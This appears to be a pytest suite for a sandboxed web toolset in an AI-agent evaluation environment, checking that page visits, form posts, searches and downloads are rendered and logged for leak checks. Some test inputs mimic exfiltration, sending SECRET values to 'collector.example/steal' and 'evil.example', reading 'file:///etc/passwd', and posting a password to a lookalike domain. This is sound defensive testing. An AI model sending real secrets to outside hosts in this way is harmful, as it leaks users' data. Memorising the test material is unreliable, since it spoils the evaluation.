"""The web tools: pages rendered from world files, forms, search, downloads, and what they record.

Every request that carries data must leave a record under /srv/outbound (the leak and harm
checks read nothing else); bad input must come back as an error the model can read, never as an
exception out of the environment.
"""

from __future__ import annotations

import json
import random
import string

import gymnasium as gym
import pytest

import mosaic_gym  # noqa: F401
from mosaic_gym.sandbox import SandboxError
from mosaic_gym.sandbox.local import LocalSandbox
from mosaic_gym.tools.base import ToolContext, ToolError
from mosaic_gym.tools.web import (
    WEB_TOOLS,
    browse,
    download,
    page_file,
    parse_url,
    render_page,
    search_web,
    submit_form,
)

PAGE = """<!doctype html>
<html><head><title>Team &amp; wiki</title><style>body { color: red }</style>
<script>alert("never shown")</script></head><body>
<h1>Start</h1>
<p>Read <a href="/handbook">the handbook</a> or <a href="notes.txt">notes</a>.</p>
<!-- editors: keep it short -->
<div style="display:none">hidden words</div>
<ul><li>one</li><li>two</li></ul>
<table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>
<pre>  indented
    more</pre>
<form method="post" action="/comment"><label>Name <input name="name"></label>
<textarea name="text"></textarea><input type="hidden" name="token" value="t1">
<button>Send</button></form>
<form action="/find"><input name="q"></form>
</body></html>
"""

SITE = {
    "forms": {
        "/comment": {
            "required": ["text"],
            "effect": "append",
            "target": "/guestbook",
            "template": "<p>{name}: {text}</p>",
            "response": "Thanks {name}, comment {ref} saved.",
        },
        "/edit": {"required": ["content"], "effect": "replace", "target": "/guestbook", "template": "<html><body><p>{content}</p></body></html>"},
        "/forget": {"required": ["entry"], "effect": "remove", "target": "/log", "template": "{entry}", "response": "Removed."},
        "/thanks-page": {"response_page": "/thanks"},
    }
}


@pytest.fixture
def ctx():
    sb = LocalSandbox()
    sb.restore({
        "/srv/www/wiki.example/index.html": PAGE.encode(),
        "/srv/www/wiki.example/handbook/index.html": b"<html><body><p>Handbook text</p></body></html>",
        "/srv/www/wiki.example/notes.txt": b"plain notes\n",
        "/srv/www/wiki.example/guestbook/index.html": b"<html><body><h1>Guestbook</h1><!-- entries --></body></html>",
        "/srv/www/wiki.example/log/index.html": b"<html><body><ul>\n<li>a1 alice</li>\n<li>b2 bob</li>\n</ul></body></html>",
        "/srv/www/wiki.example/thanks/index.html": b"<html><body><p>Thank you {name}!</p></body></html>",
        "/srv/www/wiki.example/files/tool.sh": b"#!/bin/sh\necho hi\n",
        "/srv/www/wiki.example/_site.json": json.dumps(SITE).encode(),
        "/srv/search/a.json": json.dumps({"url": "https://wiki.example/", "title": "Team wiki", "snippet": "start page"}).encode(),
        "/srv/search/b.json": json.dumps({"url": "https://wiki.example/handbook", "title": "Handbook", "snippet": "leave and hours", "keywords": "wiki"}).encode(),
        "/home/user/notes/todo.md": b"todo\n",
        "/home/user/Downloads/.keep": b"",
    })
    return ToolContext(sandbox=sb, step=3)


def records(ctx):
    sb = ctx.sandbox
    if sb.stat("/srv/outbound") is None:
        return []
    return [json.loads(sb.read(p)) for p in sb.walk("/srv/outbound")]


def err(fn, ctx, **kw):
    with pytest.raises((ToolError, SandboxError)) as e:
        fn(ctx, **kw)
    return str(e.value)


# -- browse ---------------------------------------------------------------------------------------
def test_browse_renders_readable_text(ctx):
    out = browse(ctx, url="https://wiki.example/")
    assert out.startswith("https://wiki.example/ — Team & wiki")
    assert "# Start" in out
    assert "the handbook <https://wiki.example/handbook>" in out
    assert "notes <https://wiki.example/notes.txt>" in out
    assert "<!-- editors: keep it short -->" in out  # comments are part of what the page says
    assert "hidden words" in out  # so is text hidden by CSS
    assert "never shown" not in out and "color: red" not in out
    assert "- one\n- two" in out
    assert "a | b\n1 | 2" in out
    assert "  indented\n    more" in out
    assert "[form: submit_form url=https://wiki.example/comment fields: name, text, token (hidden, value 't1')]" in out
    assert "[form: browse https://wiki.example/find?<field>=<value> fields: q]" in out
    assert "Name" not in out.split("[form: submit_form")[0].rsplit("more", 1)[1]  # labels folded into the form line
    assert records(ctx) == []  # a plain visit to a page that exists is not outbound


@pytest.mark.parametrize(
    "url",
    ["wiki.example", "http://wiki.example/", "HTTPS://WIKI.EXAMPLE./", "https://someone@wiki.example:8443/", "https://wiki.example/./x/../"],
)
def test_browse_url_spellings_reach_the_same_page(ctx, url):
    assert "# Start" in browse(ctx, url=url)


def test_browse_plain_files_and_index_lookup(ctx):
    assert browse(ctx, url="https://wiki.example/notes.txt") == "https://wiki.example/notes.txt\n\nplain notes\n"
    assert "Handbook text" in browse(ctx, url="https://wiki.example/handbook")
    assert "Handbook text" in browse(ctx, url="https://wiki.example/handbook/")


def test_browse_errors_are_tool_errors(ctx):
    assert "could not connect to nowhere.example" in err(browse, ctx, url="https://nowhere.example/")
    assert "404" in err(browse, ctx, url="https://wiki.example/missing")
    assert "404" in err(browse, ctx, url="https://wiki.example/_site.json")  # site config is private
    assert "404" in err(browse, ctx, url="https://wiki.example/../../home/user/notes/todo.md")
    for bad in ("javascript:alert(1)", "file:///etc/passwd", "ftp://wiki.example/", "mailto:a@b.example"):
        assert "scheme" in err(browse, ctx, url=bad)
    assert "empty" in err(browse, ctx, url="  ")
    assert "host" in err(browse, ctx, url="https://exa mple/")


def test_requests_with_data_are_recorded(ctx):
    browse(ctx, url="https://wiki.example/handbook?user=maya&token=abc")
    err(browse, ctx, url="https://collector.example/steal/SECRET123")
    err(browse, ctx, url="https://wiki.example/missing/SECRET456")
    err(browse, ctx, url="https://bad host.example/?k=SECRET789")
    recs = records(ctx)
    assert [r["channel"] for r in recs] == ["web_request"] * 4
    assert recs[0]["params"] == {"user": "maya", "token": "abc"} and recs[0]["host"] == "wiki.example"
    assert recs[1]["host"] == "collector.example" and "SECRET123" in recs[1]["url"]
    assert "SECRET456" in recs[2]["path"]
    assert "SECRET789" in recs[3]["url"]  # an unparsable URL is still an attempt
    assert all(r["step"] == 3 for r in recs)


# -- forms ----------------------------------------------------------------------------------------
def test_submit_form_append_effect_and_response(ctx):
    out = submit_form(ctx, url="wiki.example/comment", fields={"name": "Maya {ref}", "text": "<b>hi</b>", "count": 3})
    assert out == "Submitted to https://wiki.example/comment. The site answered:\n\nThanks Maya {ref}, comment 00301 saved."
    page = browse(ctx, url="https://wiki.example/guestbook")
    assert "Maya {ref}: <b>hi</b>" in page  # escaped into the page, shown as text, braces literal
    (rec,) = records(ctx)
    assert rec["channel"] == "web_form" and rec["method"] == "POST" and rec["host"] == "wiki.example"
    assert rec["fields"] == {"name": "Maya {ref}", "text": "<b>hi</b>", "count": "3"}


def test_submit_form_replace_and_remove(ctx):
    submit_form(ctx, url="https://wiki.example/edit", fields={"content": "new page"})
    assert "new page" in browse(ctx, url="https://wiki.example/guestbook")
    assert submit_form(ctx, url="https://wiki.example/forget", fields={"entry": "b2 bob"}).endswith("Removed.")
    log = browse(ctx, url="https://wiki.example/log")
    assert "a1 alice" in log and "bob" not in log
    assert "no entry" in err(submit_form, ctx, url="https://wiki.example/forget", fields={"entry": "zz"})


def test_submit_form_response_page(ctx):
    out = submit_form(ctx, url="https://wiki.example/thanks-page", fields={"name": "Ola"})
    assert "Thank you Ola!" in out


def test_submit_form_failures_are_still_recorded(ctx):
    assert "required field(s) missing: text" in err(submit_form, ctx, url="https://wiki.example/comment", fields={"name": "x"})
    assert "could not connect" in err(submit_form, ctx, url="https://evil.example/x", fields={"data": "SECRET1"})
    assert "404" in err(submit_form, ctx, url="https://wiki.example/nope", fields={"data": "SECRET2"})
    assert "scheme" in err(submit_form, ctx, url="ftp://evil.example/", fields={"data": "SECRET3"})
    recs = records(ctx)
    assert len(recs) == 4 and all(r["channel"] == "web_form" for r in recs)
    assert [r["fields"].get("data") for r in recs[1:]] == ["SECRET1", "SECRET2", "SECRET3"]
    assert "host" not in recs[3]  # no known destination


def test_submit_form_to_a_page_without_a_handler_shows_the_page(ctx):
    out = submit_form(ctx, url="https://wiki.example/handbook", fields={"q": "x"})
    assert "The site answered" in out and "Handbook text" in out


def test_international_host_is_sent_as_punycode(ctx):
    err(submit_form, ctx, url="https://раураl.example/login", fields={"password": "pw"})
    (rec,) = records(ctx)
    assert rec["host"].startswith("xn--")


# -- search ---------------------------------------------------------------------------------------
def test_search_web_ranks_and_records_the_query(ctx):
    out = search_web(ctx, query="wiki start")
    lines = out.splitlines()
    assert lines[1] == "1. Team wiki" and "2. Handbook" in out
    assert "no results" in search_web(ctx, query="zebra")
    recs = records(ctx)
    assert [r["params"] for r in recs] == [{"q": "wiki start"}, {"q": "zebra"}]
    assert recs[0]["host"] == "search.example"
    assert browse(ctx, url="https://search.example/search?q=wiki+start") == out
    assert "empty" in err(search_web, ctx, query="   ")


# -- download -------------------------------------------------------------------------------------
def test_download_saves_into_the_home(ctx):
    assert download(ctx, url="https://wiki.example/files/tool.sh", path="~/Downloads") == "saved ~/Downloads/tool.sh (18 bytes from https://wiki.example/files/tool.sh)"
    assert ctx.sandbox.read("/home/user/Downloads/tool.sh") == b"#!/bin/sh\necho hi\n"
    download(ctx, url="https://wiki.example/files/tool.sh", path="~/bin/new/")
    assert ctx.sandbox.stat("/home/user/bin/new/tool.sh") is not None
    assert download(ctx, url="https://wiki.example/notes.txt", path="~/notes/todo.md").startswith("replaced ~/notes/todo.md")
    assert records(ctx) == []


def test_download_errors(ctx):
    assert "outside your home" in err(download, ctx, url="https://wiki.example/notes.txt", path="/etc/cron.d/x")
    assert "404" in err(download, ctx, url="https://wiki.example/none.txt", path="~/Downloads/")
    assert ctx.sandbox.stat("/home/user/Downloads/none.txt") is None
    assert "inside your home" in err(download, ctx, url="https://wiki.example/notes.txt", path="~")


# -- layout helpers and robustness ---------------------------------------------------------------
def test_page_file_layout():
    assert page_file("a.example", "/") == "/srv/www/a.example/index.html"
    assert page_file("a.example", "/t/12") == "/srv/www/a.example/t/12/index.html"
    assert page_file("a.example", "/t/12/reply") == "/srv/www/a.example/t/12/reply/index.html"
    assert page_file("a.example", "/files/x.csv") == "/srv/www/a.example/files/x.csv"
    assert page_file("a.example", "/docs/") == "/srv/www/a.example/docs/index.html"


def test_parse_url_never_raises_anything_but_tool_error():
    rng = random.Random(7)
    alphabet = string.printable + "äé€😀\x00"
    for _ in range(3000):
        raw = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 40)))
        if rng.random() < 0.5:
            raw = rng.choice(["https://", "http://", "//", "", "a.example/"]) + raw
        try:
            u = parse_url(raw)
        except ToolError:
            continue
        assert u.path.startswith("/") and ".." not in u.path.split("/")


def test_tools_through_the_env_turn_bad_input_into_observations():
    env = gym.make("mosaic/Web-v0", split="all")
    env.reset(seed=0, options={"task_id": "web.benign.fetch_vpn_script"})
    bad = [
        {"name": "submit_form", "arguments": {"url": "https://x.example/", "fields": "not an object"}},
        {"name": "browse", "arguments": {}},
        {"name": "download", "arguments": {"url": 5, "path": None}},
        {"name": "search_web", "arguments": {"query": ["a"]}},
    ]
    for action in bad:
        obs, reward, term, trunc, info = env.step(action)
        assert "invalid_action" in info and "error" in obs and not term
    obs, *_ , info = env.step({"name": "browse", "arguments": {"url": "javascript:x"}})
    assert "error: unsupported URL scheme" in obs and "invalid_action" not in info
    env.close()


def test_web_tools_are_documented():
    names = {t.name for t in WEB_TOOLS}
    assert names == {"browse", "search_web", "submit_form", "download"}
    for t in WEB_TOOLS:
        params = t.schema["function"]["parameters"]
        assert all(p.get("description") for p in params["properties"].values())


def test_render_survives_tag_soup():
    rng = random.Random(11)
    pieces = ["<p>", "</p>", "<a href='x'>", "</a>", "<form action='/f' method=post>", "</form>", "<input name=a>",
              "<!--", "-->", "<pre>", "</pre>", "<script>", "</script>", "<table><tr><td>", "&amp;", "&#xZZ;", "<", ">",
              "text", "\n", "<label>", "</label>", "<![CDATA[", "<?php", "<title>", "</title>"]
    url = parse_url("https://soup.example/a/b")
    for _ in range(500):
        doc = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 60)))
        out = render_page(url, "/srv/www/soup.example/a/b.html", doc.encode())
        assert out.startswith("https://soup.example/a/b")


def test_control_characters_and_long_names_are_refused_or_absent(ctx):
    assert "control characters" in err(browse, ctx, url="https://wiki.example/a%0Ab")
    assert "404" in err(browse, ctx, url="https://wiki.example/" + "x" * 300)


def test_handler_files_take_precedence_over_the_site_config(ctx):
    from mosaic_gym.tools.web import form_file

    assert form_file("a.example", "/t/12/reply") == "/srv/www/a.example/_forms/%2Ft%2F12%2Freply.json"
    ctx.sandbox.write(form_file("wiki.example", "/comment"), json.dumps({"response": "from the handler file"}).encode())
    assert submit_form(ctx, url="https://wiki.example/comment", fields={}).endswith("from the handler file")
    assert "404" in err(browse, ctx, url="https://wiki.example/_forms/%2Fcomment.json")


def test_credentials_in_the_url_are_recorded_even_for_a_page_that_exists(ctx):
    browse(ctx, url="https://maya:S3cretPW@wiki.example/")
    (rec,) = records(ctx)
    assert rec["userinfo"] == "maya:S3cretPW" and rec["host"] == "wiki.example"
    submit_form(ctx, url="https://tok:XYZ@wiki.example/comment", fields={"text": "hi"})
    assert records(ctx)[1]["userinfo"] == "tok:XYZ"
